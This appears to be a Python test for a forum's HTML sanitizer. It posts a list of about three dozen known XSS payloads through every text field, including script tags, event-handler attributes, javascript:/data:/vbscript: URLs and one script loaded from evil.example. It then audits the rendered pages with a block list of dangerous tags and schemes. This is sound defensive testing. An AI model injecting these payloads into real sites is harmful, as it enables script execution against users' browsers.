"""Known XSS vectors posted through every text field of the board and the forum come out
as text: no script, no event handler, no javascript:/data: URL, no SVG or frames."""

from __future__ import annotations

from html.parser import HTMLParser

from aiohttp.test_utils import TestClient
from sqlalchemy import select

from forum.models import Section
from forum.sanitize import render
from hub.db import Database
from tests.forum.conftest import Cast
from tests.support.web import post_form, sign_in

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle r=5></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=\"javascript:alert(1)\">клик</a>",
    "[клик](javascript:alert(1))",
    "[клик](JaVaScRiPt:alert(1))",
    "[клик](&#106;avascript:alert(1))",
    "[клик](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[клик](vbscript:msgbox(1))",
    "![img](javascript:alert(1))",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<body onload=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=\"http://ok.example\" onclick=\"alert(1)\">ok</a>",
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<!--<script>alert(1)</script>-->",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "`<script>alert(1)</script>`",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<p title=\"</p><script>alert(1)</script>\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](java\tscript:alert(1))",
    "<style>@import 'javascript:alert(1)';</style>",
]

DANGEROUS_TAGS = {"script", "svg", "iframe", "object", "embed", "math", "style", "base",
                  "form", "input", "img", "details", "body", "link"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href"}
OWN_SCRIPTS = {"/static/hub.js", "/static/forum/forum.js"}
OWN_LINKS = {"/static/style.css", "/static/forum/forum.css"}


class Audit(HTMLParser):
    """Collects everything executable in a page, except the page's own scripts, styles
    and forms (whose actions are this site's paths)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.bodies = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag == "body":
            self.bodies += 1
        own = (
            (tag == "body" and not values and self.bodies == 1) or
            (tag == "script" and values.get("src") in OWN_SCRIPTS)
            or (tag == "link" and values.get("href") in OWN_LINKS)
            or (tag in ("form", "input") and not any(n.startswith("on") for n in values)
                and values.get("action", "/").startswith("/"))
        )
        if tag in DANGEROUS_TAGS and not own:
            self.problems.append(f"<{tag} {values}>")
        for name, value in values.items():
            if name.startswith("on"):
                self.problems.append(f"{tag} {name}={value}")
            if name in URL_ATTRIBUTES:
                scheme = "".join(value.split()).lower()
                if scheme.startswith(("javascript:", "data:", "vbscript:")):
                    self.problems.append(f"{tag} {name}={value}")
            if name == "style":
                self.problems.append(f"{tag} style={value}")


def executable(page: str) -> list[str]:
    audit = Audit()
    audit.feed(page)
    audit.close()
    return audit.problems


def test_sanitizer_neutralises_every_vector() -> None:
    for vector in VECTORS:
        assert executable(render(vector)) == [], vector


async def test_vectors_through_posting_and_rendering(
    client: TestClient, cast: Cast, db: Database
) -> None:
    await sign_in(client, "coord")
    assert (await client.get("/forum")).status == 200
    async with db.session() as session:
        section = await session.scalar(select(Section.id).where(Section.key == "school"))
    pages: list[str] = []
    for number, vector in enumerate(VECTORS):
        response = await post_form(client, f"/forum/sections/{section}/topics",
                                   {"title": f"{number} {vector}"[:200], "body": vector})
        assert response.status == 303, (vector, await response.text())
        topic_path = response.headers["Location"]
        reply = await post_form(client, f"{topic_path}/reply", {"body": f"ответ {vector}"})
        assert reply.status == 303, vector
        announced = await post_form(client, "/board/new", {
            "title": f"{number} {vector}"[:200], "body": vector, "audience": "school"})
        assert announced.status == 303, vector
        pages.append(await (await client.get(topic_path)).text())
        pages.append(await (await client.get(announced.headers["Location"])).text())
    pages.append(await (await client.get("/board")).text())
    pages.append(await (await client.get(f"/forum/sections/{section}")).text())
    pages.append(await (await client.get("/forum/search?q=alert")).text())
    for page in pages:
        assert executable(page) == []
    # Shown as text: what the author typed is visible, escaped.
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in pages[0]
